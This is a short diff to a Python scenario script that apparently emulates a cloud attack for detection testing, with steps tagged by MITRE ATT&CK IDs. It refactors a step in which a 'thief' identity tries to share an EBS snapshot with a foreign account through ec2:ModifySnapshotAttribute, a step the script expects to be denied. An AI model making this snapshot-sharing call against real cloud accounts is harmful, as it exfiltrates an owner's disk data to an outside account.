@@ -15,8 +15,8 @@ def tell(stage: Stage) -> None:
     look(stage, thief, "sts:GetCallerIdentity", "ec2:DescribeVolumes", "ec2:DescribeSnapshots", "ec2:DescribeInstances")
     stage.scene("Exfiltration", "T1537", "snapshot sharing attempted", expected=False)
     volume, old = stage.have("volume")[0], stage.have("snapshot")[0]
-    share = {"snapshotId": old, "attributeType": "CREATE_VOLUME_PERMISSION"}
-    share["createVolumePermission"] = {"add": {"items": [{"userId": stage.foreign_account()}]}}  # type: ignore[assignment]
+    given = {"add": {"items": [{"userId": stage.foreign_account()}]}}
+    share = {"snapshotId": old, "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": given}
     stage.do(thief, "ec2:ModifySnapshotAttribute", share, denied=True)
     stage.wait(10, 40)
     stage.scene("Collection", "T1578.001", "snapshot of a disk made by hand")
